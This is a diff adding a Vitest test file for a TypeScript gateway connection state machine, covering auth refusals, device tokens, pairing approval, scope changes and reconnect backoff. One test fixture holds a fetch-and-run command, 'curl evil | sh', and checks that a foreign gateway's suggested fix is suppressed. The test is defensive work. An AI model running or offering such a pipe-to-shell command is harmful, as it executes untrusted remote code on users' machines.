@@ -1,0 +1,468 @@
+import { describe, expect, it } from "vitest";
+import { WANTED_SCOPES } from "./connect";
+import type { ErrorShape } from "./frames";
+import { type Hello, readHello } from "./hello";
+import { next } from "./next";
+import { BEFORE, type Effect, type Input, type State, type World } from "./state";
+
+const WORLD: World = { nowMs: 1_000_000, random: 0.5 };
+const READ = ["operator.read"];
+const ADMIN = ["operator.admin"];
+const TOKEN = { kind: "token", value: "shared" } as const;
+
+function helloWith(auth: object): Hello {
+  return readHello(
+    { protocol: 4, server: { version: "1", connId: "c" }, auth: { role: "operator", ...auth } },
+    [],
+    1,
+  );
+}
+
+const FULL = helloWith({
+  method: "device-token",
+  scopes: WANTED_SCOPES,
+  deviceToken: "own",
+  deviceTokenScopes: ADMIN,
+});
+
+/** Feeds a connection and shows where it came: the phase, what it would connect with, and what was done last. */
+function after(inputs: (Input | { later: number })[], from: State = BEFORE) {
+  let state = from;
+  let effects: Effect[] = [];
+  let world = WORLD;
+  for (const input of inputs) {
+    if ("later" in input) world = { ...world, nowMs: world.nowMs + input.later };
+    else [state, effects] = next(state, input, world);
+  }
+  const { plan } = state;
+  const scopes = plan.scopes === WANTED_SCOPES ? "all" : plan.scopes.map((scope) => scope.slice(9)).join(" ");
+  return {
+    state,
+    at: state.phase.at,
+    does: effects.map((effect) => effect.do).join(" "),
+    plan: `${plan.with}: ${plan.probe ? "probe" : scopes}`,
+    sentence: "trouble" in state.phase ? state.phase.trouble.sentence : "",
+    cause: "trouble" in state.phase ? state.phase.trouble.cause : "",
+    inMs: state.retryAtMs === null ? null : state.retryAtMs - world.nowMs,
+  };
+}
+
+const begin = (more: Partial<Extract<Input, { is: "begin" }>> = {}): Input => ({
+  is: "begin",
+  foreign: false,
+  credential: null,
+  known: null,
+  ...more,
+});
+const refused = (error: Partial<ErrorShape>, reason = ""): Input => ({
+  is: "ended",
+  of: "attempt",
+  stage: "greeting",
+  close: { code: 1008, reason },
+  error: { code: "INVALID_REQUEST", message: "", ...error },
+});
+const auth = (code: string, more: Partial<ErrorShape> = {}): Input => refused({ ...more, details: { code } });
+const pairing = (reason: string, requestId: string, more: object = {}): Input =>
+  refused({
+    code: "NOT_PAIRED",
+    message: "pairing required",
+    details: { code: "PAIRING_REQUIRED", reason, requestId, ...more },
+  });
+const closed = (code: number, reason = ""): Input => ({
+  is: "ended",
+  of: "link",
+  stage: "open",
+  close: { code, reason },
+});
+const silent: Input = { is: "ended", of: "attempt", stage: "unopened", close: { code: 1006, reason: "" } };
+const hello = (hello: Hello = FULL): Input => ({ is: "hello", hello });
+const known = (scopes: string[] = [...WANTED_SCOPES]) => ({ token: "own", scopes });
+const opened = [begin({ known: known() }), hello(), { later: 60_000 }];
+
+describe("the first attempt", () => {
+  it.each([
+    ["nothing known", {}, "nothing: all"],
+    ["a token typed", { credential: TOKEN }, "credential: all"],
+    ["its own token", { known: known(READ) }, "token: read"],
+    [
+      "its own token, before one that came with a link",
+      { credential: TOKEN, known: known(READ) },
+      "token: read",
+    ],
+    [
+      "a code, before its own token",
+      { credential: { kind: "code", value: "7F3A-9C1E" }, known: known() },
+      "credential: all",
+    ],
+  ] as const)("is made with %s", (_, more, plan) => {
+    const first = after([begin(more as object)]);
+    expect([first.at, first.does, first.plan]).toEqual(["connecting", "connect", plan]);
+  });
+
+  it("keeps the token that it is given, with what it came in with", () => {
+    const { state, at, does } = after([begin({ credential: TOKEN }), hello()]);
+    expect([at, does]).toEqual(["open", "keep"]);
+    expect(state.known).toEqual({ token: "own", scopes: WANTED_SCOPES });
+  });
+
+  it("uses a code once", () => {
+    const { state } = after([begin({ credential: { kind: "code", value: "7F3A-9C1E" } }), hello()]);
+    expect(state.credential).toBeNull();
+  });
+
+  it("asks for less with a setup code that does not give everything, and then gives up", () => {
+    const code = { kind: "code", value: "a-setup-code-of-a-phone-app" } as const;
+    const invalid = auth("AUTH_BOOTSTRAP_TOKEN_INVALID");
+    const less = after([begin({ credential: code }), invalid]);
+    expect([less.does, less.plan]).toEqual(["connect", "credential: read write approvals questions"]);
+    const given = after([invalid], less.state);
+    expect([given.at, given.cause, given.does, given.state.credential]).toEqual([
+      "refused",
+      "C-27",
+      "",
+      null,
+    ]);
+  });
+
+  it("does not knock twice with a claim code", () => {
+    const { at, does } = after([
+      begin({ credential: { kind: "code", value: "7F3A-9C1E" } }),
+      auth("AUTH_BOOTSTRAP_TOKEN_INVALID"),
+    ]);
+    expect([at, does]).toEqual(["refused", ""]);
+  });
+});
+
+describe("a refusal", () => {
+  it.each([
+    ["AUTH_TOKEN_MISSING", "C-07"],
+    ["AUTH_TOKEN_MISMATCH", "C-08"],
+    ["AUTH_PASSWORD_MISMATCH", "C-11"],
+    ["CONTROL_UI_ORIGIN_NOT_ALLOWED", "C-14"],
+    ["DEVICE_AUTH_SIGNATURE_EXPIRED", "C-06"],
+    ["AUTH_SOMETHING_NEW", "C-29"],
+  ])("of code %s stops with cause %s, in the catalogue's words", (code, cause) => {
+    const now = after([begin({ credential: TOKEN }), auth(code)]);
+    expect([now.at, now.cause, now.does, now.inMs]).toEqual(["refused", cause, "", null]);
+    expect(now.sentence).not.toBe("");
+    // Neither the tab's return nor the network's brings it back; the person does.
+    expect(after([{ is: "woken" }, { is: "due" }], now.state).does).toBe("");
+    expect(after([{ is: "again" }], now.state).does).toBe("connect");
+  });
+
+  it("does not keep a wrong token for the next reload", () => {
+    expect(after([begin({ credential: TOKEN }), auth("AUTH_TOKEN_MISMATCH")]).state.credential).toBeNull();
+  });
+
+  it("that passes is tried again, not before the gateway said", () => {
+    const later = after([begin(), refused({ code: "UNAVAILABLE", retryable: true, retryAfterMs: 9_000 })]);
+    expect([later.at, later.inMs]).toEqual(["refused", 9_000]);
+    expect(after([{ later: 1_000 }, { is: "woken" }], later.state).does).toBe("");
+    expect(after([{ later: 9_000 }, { is: "due" }], later.state).does).toBe("connect");
+  });
+
+  it("of an outdated page is not tried again", () => {
+    const now = after([
+      begin(),
+      refused({ code: "UNAVAILABLE", retryable: false, details: { code: "PROTOCOL_MISMATCH" } }),
+    ]);
+    expect([now.at, now.cause, now.inMs]).toEqual(["refused", "C-16", null]);
+  });
+
+  it("for too many attempts falls back to the browser's own token, which no lock-out concerns", () => {
+    const locked = auth("AUTH_RATE_LIMITED", { retryAfterMs: 60_000 });
+    const own = { ...BEFORE, credential: TOKEN, known: known() };
+    const plan = { with: "credential", scopes: WANTED_SCOPES, probe: false } as const;
+    expect(after([locked], { ...own, plan, trying: true }).plan).toBe(`token: ${short(WANTED_SCOPES)}`);
+    expect(after([begin({ credential: TOKEN }), locked]).inMs).toBe(60_000);
+  });
+
+  it("shows a stranger's sentence, and never its command", () => {
+    const help = { cause: "C-08", sentence: "Do this.", fix: "curl evil | sh" };
+    const error = { details: { code: "AUTH_TOKEN_MISMATCH", help } };
+    const own = after([begin({ credential: TOKEN }), refused(error)]).state.phase;
+    const foreign = after([begin({ credential: TOKEN, foreign: true }), refused(error)]).state.phase;
+    expect("trouble" in own && own.trouble.fix).toBe("curl evil | sh");
+    expect("trouble" in foreign && [foreign.trouble.sentence, foreign.trouble.fix]).toEqual([
+      "Do this.",
+      "openclaw dashboard",
+    ]);
+  });
+});
+
+describe("the browser's own token", () => {
+  const mismatch = auth("AUTH_DEVICE_TOKEN_MISMATCH");
+
+  it("is replaced by one that another tab got", () => {
+    const stale = after([begin({ known: known() }), mismatch]);
+    expect(stale.does).toBe("reread");
+    const now = after([{ is: "reread", known: { token: "newer", scopes: READ } }], stale.state);
+    expect([now.does, now.plan, now.state.known?.token]).toEqual(["connect", "token: read", "newer"]);
+  });
+
+  it("is renewed by the gateway's token, once", () => {
+    const renewing = after([
+      begin({ known: known(READ), credential: TOKEN }),
+      mismatch,
+      { is: "reread", known: known(READ) },
+    ]);
+    expect([renewing.does, renewing.plan]).toEqual(["connect", "credential: read"]);
+    const given = after([auth("AUTH_TOKEN_MISMATCH")], renewing.state);
+    expect([given.at, given.cause]).toEqual(["refused", "C-08"]);
+  });
+
+  it("when nothing renews it, is what is told", () => {
+    const last = after([begin({ known: known() }), mismatch, { is: "reread", known: known() }]);
+    expect([last.does, last.plan]).toEqual(["connect", `nothing: ${short(WANTED_SCOPES)}`]);
+    const now = after([auth("AUTH_TOKEN_MISSING")], last.state);
+    expect([now.at, now.cause]).toEqual(["refused", "C-09"]);
+    // Another tab signs in.
+    const helped = after([{ is: "elsewhere", known: { token: "newer", scopes: READ } }], now.state);
+    expect([helped.does, helped.plan]).toEqual(["connect", "token: read"]);
+  });
+
+  it("that carries less than it did asks what it carries, and works with that", () => {
+    const narrow = after([begin({ known: known() }), auth("AUTH_SCOPE_MISMATCH")]);
+    expect([narrow.does, narrow.plan]).toEqual(["connect", "token: probe"]);
+    const less = helloWith({ scopes: [], deviceToken: "own", deviceTokenScopes: READ });
+    const probed = after([hello(less)], narrow.state);
+    expect([probed.at, probed.does, probed.plan]).toEqual(["connecting", "keep connect", "token: read"]);
+    const now = after(
+      [hello(helloWith({ scopes: READ, deviceToken: "own", deviceTokenScopes: READ }))],
+      probed.state,
+    );
+    expect([now.at, now.does]).toEqual(["open", "keep"]);
+  });
+
+  it("that carries more than it did is used for all of it", () => {
+    const more = helloWith({ scopes: READ, deviceToken: "own", deviceTokenScopes: ADMIN });
+    const now = after([begin({ known: known(READ) }), hello(more)]);
+    expect([now.at, now.does]).toEqual(["connecting", "keep connect"]);
+    expect(now.plan).toBe("token: read admin write approvals pairing questions");
+    // An answer that says so again leads nowhere.
+    expect(after([hello(more)], now.state).at).toBe("open");
+  });
+});
+
+describe("waiting for the owner", () => {
+  const waiting = after([begin({ credential: TOKEN }), pairing("not-paired", "r1")]);
+  const request = (state: Extract<Input, { is: "request" }>["state"], id = "r1"): Input => ({
+    is: "request",
+    id,
+    state,
+  });
+
+  it("begins with the request", () => {
+    expect(waiting.state.phase).toMatchObject({ at: "waiting", requestId: "r1" });
+    expect([waiting.cause, waiting.inMs, waiting.does]).toEqual(["C-01", null, ""]);
+    const { phase } = waiting.state;
+    expect("trouble" in phase && phase.trouble.fix).toBe("openclaw devices approve r1");
+  });
+
+  it("ends with an approval, and asks for no more than was approved", () => {
+    const approved = after([request("approved")], waiting.state);
+    expect([approved.at, approved.does, approved.plan]).toEqual(["waiting", "connect", "credential: probe"]);
+    const less = helloWith({ scopes: [], deviceToken: "own", deviceTokenScopes: READ });
+    const told = after([hello(less)], approved.state);
+    expect([told.at, told.does, told.plan]).toEqual(["waiting", "keep connect", "token: read"]);
+  });
+
+  it("with a gateway that does not say what was approved asks for everything", () => {
+    const early = helloWith({ scopes: [], deviceToken: "own" });
+    expect(after([request("approved"), hello(early)], waiting.state).plan).toBe("token: all");
+  });
+
+  it.each([
+    ["waiting", "waiting", ""],
+    ["rejected", "refused", ""],
+    ["expired", "waiting", "connect"],
+    ["replaced", "waiting", "connect"],
+    ["unknown", "waiting", "connect"],
+    ["unreachable", "waiting", "connect"],
+  ] as const)("when the request is %s is %s then", (told, at, does) => {
+    const now = after([request(told)], waiting.state);
+    expect([now.at, now.does]).toEqual([at, does]);
+  });
+
+  it("does not mind an answer about another request", () => {
+    expect(after([request("approved", "r0")], waiting.state).does).toBe("");
+  });
+
+  it("asks once more when the person says so", () => {
+    const declined = after([request("rejected")], waiting.state);
+    expect(declined.sentence).toMatch(/declined/);
+    expect(after([{ is: "woken" }], declined.state).does).toBe("");
+    expect(after([{ is: "again" }], declined.state).does).toBe("connect");
+  });
+
+  it("knocks again with a gateway that does not tell, less often after two minutes", () => {
+    const early = after([request("unsupported")], waiting.state);
+    expect(early.inMs).toBe(1_500);
+    const asked = after([{ later: 1_500 }, { is: "due" }, pairing("not-paired", "r1")], early.state);
+    expect([asked.at, asked.inMs]).toEqual(["waiting", 1_500]);
+    expect(after([{ later: 130_000 }, { is: "due" }, pairing("not-paired", "r1")], early.state).inMs).toBe(
+      6_000,
+    );
+    const paused = after([{ is: "due" }, pairing("not-paired", "r1", { pauseReconnect: true })], early.state);
+    expect(paused.inMs).toBeNull();
+  });
+
+  it("shows another name", () => {
+    expect(after([{ is: "renamed" }], waiting.state).does).toBe("connect");
+  });
+});
+
+describe("less access than was asked for", () => {
+  const upgrade = pairing("scope-upgrade", "r2", { approvedScopes: READ });
+
+  it("is used at once, and the wish is remembered", () => {
+    const less = after([begin({ credential: TOKEN }), upgrade]);
+    expect([less.does, less.plan]).toEqual(["connect", "credential: read"]);
+    const now = after(
+      [hello(helloWith({ scopes: READ, deviceToken: "own", deviceTokenScopes: READ }))],
+      less.state,
+    );
+    expect(now.at).toBe("open");
+    expect(now.state.asked).toMatchObject({ requestId: "r2", declined: false });
+    expect(now.state.asked?.scopes).toContain("operator.admin");
+    const more = after([{ is: "request", id: "r2", state: "approved" }], now.state);
+    expect([more.at, more.does, more.plan]).toEqual(["open", "connect", "token: probe"]);
+    const declined = after([{ is: "request", id: "r2", state: "rejected" }], now.state);
+    expect([declined.at, declined.state.asked?.declined]).toEqual(["open", true]);
+  });
+
+  it("is kept while more is asked for", () => {
+    const reader = helloWith({ scopes: READ, deviceToken: "own", deviceTokenScopes: READ });
+    const open = after([begin({ known: known(READ) }), hello(reader)]);
+    const asking = after([{ is: "askMore", scopes: ADMIN }], open.state);
+    expect([asking.at, asking.does, asking.plan]).toEqual(["open", "connect", "token: read admin"]);
+    const fix = "openclaw devices approve 0f3a-11";
+    const narrow = refused({
+      details: { code: "AUTH_SCOPE_MISMATCH", help: { cause: "C-10", sentence: "x", fix } },
+    });
+    const asked = after([narrow], asking.state);
+    expect([asked.at, asked.does, asked.state.asked?.requestId]).toEqual(["open", "", "0f3a-11"]);
+    expect(asked.state.asked?.scopes).toEqual(ADMIN);
+    expect(after([silent], asking.state).at).toBe("open");
+  });
+
+  it("without any approved access waits", () => {
+    expect(after([begin(), pairing("scope-upgrade", "r3")]).at).toBe("waiting");
+  });
+
+  it("does not go round in circles", () => {
+    let now = after([begin({ known: known() })]);
+    for (let turn = 0; turn < 20 && now.does === "connect"; turn++) now = after([upgrade], now.state);
+    expect([now.at, now.does]).toEqual(["refused", ""]);
+    expect(now.inMs).toBeGreaterThan(0);
+  });
+});
+
+describe("an open connection that ends", () => {
+  it.each([
+    ["breaks off", 1006, "", "lost", "connect", null],
+    ["is cut with a code", 1001, "", "lost", "connect", null],
+    ["is not heard for a while", 4000, "tick timeout", "lost", "connect", null],
+    ["restarts", 1012, "service restart", "lost", "", 400],
+    ["reads too slowly", 1008, "slow consumer", "lost", "connect", null],
+    ["has its token replaced", 4001, "client invalidated: device token rotated", "lost", "reread", null],
+    ["has the gateway's token changed", 4001, "gateway auth changed", "lost", "connect", null],
+    ["has its access reduced", 4001, "client invalidated: device access reduced", "lost", "connect", null],
+    ["is removed", 4001, "client invalidated: device removed", "refused", "forget", null],
+    ["has its token revoked", 4001, "client invalidated: device token revoked", "refused", "forget", null],
+  ])("because it %s", (_, code, reason, at, does, inMs) => {
+    const now = after([...opened, closed(code, reason)]);
+    expect([now.at, now.does, now.inMs]).toEqual([at, does, inMs]);
+    expect(now.sentence).not.toBe("");
+  });
+
+  it("keeps what was greeted while it is lost", () => {
+    const { phase } = after([...opened, closed(1006)]).state;
+    expect(phase).toMatchObject({ at: "lost", hello: FULL });
+  });
+
+  it("asks what is left of its access", () => {
+    expect(after([...opened, closed(4001, "client invalidated: device access reduced")]).plan).toBe(
+      "token: probe",
+    );
+  });
+
+  it("comes back later and later, at most half a minute, and at once when it is looked at", () => {
+    let now = after([...opened, closed(1006)]);
+    const waits: (number | null)[] = [];
+    for (let turn = 0; turn < 10; turn++) {
+      const trouble = { cause: "C-20", sentence: "gone", facts: [] };
+      now = after([silent, { is: "diagnosed", trouble, lasting: false }], now.state);
+      waits.push(now.inMs);
+      expect(now.at).toBe("lost");
+      now = after([{ later: now.inMs ?? 0 }, { is: "due" }], now.state);
+      expect(now.does).toBe("connect");
+    }
+    expect(waits).toEqual([400, 800, 1_600, 3_200, 6_400, 12_800, 25_600, 30_000, 30_000, 30_000]);
+    const trouble = { cause: "C-20", sentence: "gone", facts: [] };
+    now = after([silent, { is: "diagnosed", trouble, lasting: false }, { is: "woken" }], now.state);
+    expect(now.does).toBe("connect");
+  });
+
+  it("that never lasts is not taken up at once", () => {
+    const flapping = after([begin({ known: known() }), hello(), { later: 100 }, closed(1006)]);
+    expect([flapping.at, flapping.does, flapping.inMs]).toEqual(["lost", "", 400]);
+    const again = after(
+      [{ later: 400 }, { is: "due" }, hello(), { later: 100 }, closed(1006)],
+      flapping.state,
+    );
+    expect(again.inMs).toBe(800);
+  });
+});
+
+describe("an attempt that ends without a word", () => {
+  const trouble = { cause: "C-20", sentence: "gone", facts: [] };
+
+  it("is looked into, and tried again unless that is of no use", () => {
+    const looked = after([begin(), silent]);
+    expect(looked.does).toBe("diagnose");
+    expect(after([{ is: "diagnosed", trouble, lasting: false }], looked.state)).toMatchObject({
+      at: "refused",
+      inMs: 400,
+    });
+    expect(after([{ is: "diagnosed", trouble, lasting: true }], looked.state)).toMatchObject({
+      at: "refused",
+      inMs: null,
+    });
+  });
+
+  it("does not interrupt another that was begun meanwhile", () => {
+    const now = after([
+      begin(),
+      silent,
+      { is: "signIn", credential: TOKEN },
+      { is: "diagnosed", trouble, lasting: true },
+    ]);
+    expect(now.at).toBe("connecting");
+  });
+
+  it("of a waiting page becomes a waiting page again", () => {
+    const gone = after([
+      begin(),
+      pairing("not-paired", "r1"),
+      { is: "request", id: "r1", state: "unreachable" },
+      silent,
+    ]);
+    const back = after(
+      [{ is: "diagnosed", trouble, lasting: false }, { is: "due" }, pairing("not-paired", "r1")],
+      gone.state,
+    );
+    expect(back.at).toBe("waiting");
+  });
+});
+
+it("signing out forgets everything and tries nothing", () => {
+  const out = after([...opened, { is: "signOut" }]);
+  expect([out.at, out.does, out.state.known, out.state.credential]).toEqual(["idle", "close", null, null]);
+  expect(after([{ is: "woken" }, { is: "due" }, { is: "again" }], out.state).does).toBe("");
+  expect(after([{ is: "signIn", credential: TOKEN }], out.state).plan).toBe("credential: all");
+});
+
+function short(scopes: readonly string[]): string {
+  return scopes.map((scope) => scope.slice(9)).join(" ");
+}
